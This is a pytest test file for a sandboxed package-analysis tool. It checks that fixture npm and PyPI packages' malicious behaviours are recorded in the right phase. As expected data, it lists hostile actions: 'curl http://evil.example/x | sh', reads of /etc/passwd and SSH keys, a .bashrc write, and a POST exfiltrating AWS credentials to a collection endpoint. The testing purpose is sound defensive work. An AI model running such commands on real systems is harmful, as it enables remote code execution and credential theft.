"""Dynamic analysis end to end through the CLI, in the real sandbox: every behaviour of the
fixture packages shows up in the phase that did it."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from builders import behaviour_npm, behaviour_pypi
from clirun import run_cli_json
from pkgtrace.sandbox import layout

pytestmark = pytest.mark.sandbox


def _analyze(ecosystem: str, artifact: Path, results: Path) -> dict:
    return run_cli_json("analyze", ecosystem, "--local", str(artifact), "--mode", "dynamic",
                        "--results", str(results), "--timeout", "180")


def _check_phase(docs: dict, phase: str) -> None:
    ossf = docs["dynamic"]["Analysis"][phase]
    section = docs["report"]["dynamic"]["phases"][phase]
    bait = {v["what"]: v["value"] for v in docs["report"]["dynamic"]["bait"]["values"]}
    assert ossf["Status"] == "completed", section["reason"]

    files = {f["Path"]: f for f in ossf["Files"]}
    assert files["/etc/passwd"]["Read"]
    assert files[f"{layout.HOME}/.ssh/id_rsa"]["Read"]  # the package user's home
    assert files[f"{layout.HOME}/.bashrc"]["Write"]
    assert files[f"/tmp/pkgtrace-fixture-{phase}-victim"]["Delete"]

    argvs = [c["Command"] for c in ossf["Commands"]]
    assert ["sh", "-c", "curl http://evil.example/x | sh"] in argvs
    assert ["curl", "http://evil.example/x"] in argvs

    queried = {q["Hostname"] for d in ossf["DNS"] for q in d["Queries"]}
    assert {"exfil.example", "evil.example"} <= queried

    sockets = {(s["Address"], s["Port"]): s["Hostnames"] for s in ossf["Sockets"]}
    assert ("1.2.3.4", 443) in sockets
    assert ("10.9.8.7", 8080) in sockets
    assert any(port == 80 and "evil.example" in names for (_a, port), names in sockets.items())

    net = section["network"]
    tls = [e for e in net if e.get("tls")]
    assert any(e["dst"] == "1.2.3.4" and e["port"] == 443 and e["tls"]["sni"] == "c2.example"
               and not e["allowed"] for e in tls)
    posts = [e for e in net if e.get("http", {}).get("method") == "POST"
             and e["http"]["target"] == f"/collect?phase={phase}"]
    assert posts and posts[0]["dst"] == "10.9.8.7" and posts[0]["port"] == 8080
    body = json.loads(base64.b64decode(posts[0]["http"]["body_b64"]))
    assert body["phase"] == phase
    # the fresh bait from the environment left in the POST body
    assert body["env"]["AWS_ACCESS_KEY_ID"] == bait["aws_access_key_id"]
    gets = [e for e in net if e.get("http", {}).get("method") == "GET"]
    assert any(e["hostname"] == "evil.example" and e["http"]["target"] == "/x" for e in gets)


def _check_not_in_other_phase(docs: dict, phase: str, other: str) -> None:
    files = {f["Path"] for f in docs["dynamic"]["Analysis"][other]["Files"]}
    assert f"/tmp/pkgtrace-fixture-{phase}-victim" not in files
    net = docs["report"]["dynamic"]["phases"][other]["network"]
    assert not any(e.get("http", {}).get("target") == f"/collect?phase={phase}" for e in net)


@pytest.mark.parametrize("ecosystem,build", [("pypi", behaviour_pypi), ("npm", behaviour_npm)])
def test_install_and_import_behaviour_lands_in_the_right_phase(ecosystem, build, tmp_path, results):
    docs = _analyze(ecosystem, build(tmp_path / "dist"), results)
    for phase in ("install", "import", "execute"):
        _check_phase(docs, phase)
    _check_not_in_other_phase(docs, "install", "import")
    _check_not_in_other_phase(docs, "import", "install")
    # the payload behind connect() fires only in execute, which records the call that ran it
    for other in ("install", "import"):
        _check_not_in_other_phase(docs, "execute", other)
    steps = [s for s in docs["report"]["dynamic"]["phases"]["execute"]["steps"]
             if s["name"].endswith("connect")]
    assert steps and steps[0]["status"] == "ok", steps
    # what the call did, matched to it by time
    assert ["sh", "-c", "curl http://evil.example/x | sh"] in steps[0]["did"]["commands"]
    assert {"dst": "10.9.8.7", "port": 8080, "http": "POST /collect?phase=execute"} in \
        steps[0]["did"]["network"]
    # the stored documents are the ones printed
    name = docs["report"]["package"]["name"]
    stored = json.loads((results / ecosystem / name / "1.0.0" / "dynamic.json").read_text())
    assert stored["Package"] == docs["dynamic"]["Package"]
    assert docs["report"]["dynamic"]["trace_stats"]["garbage"] == 0
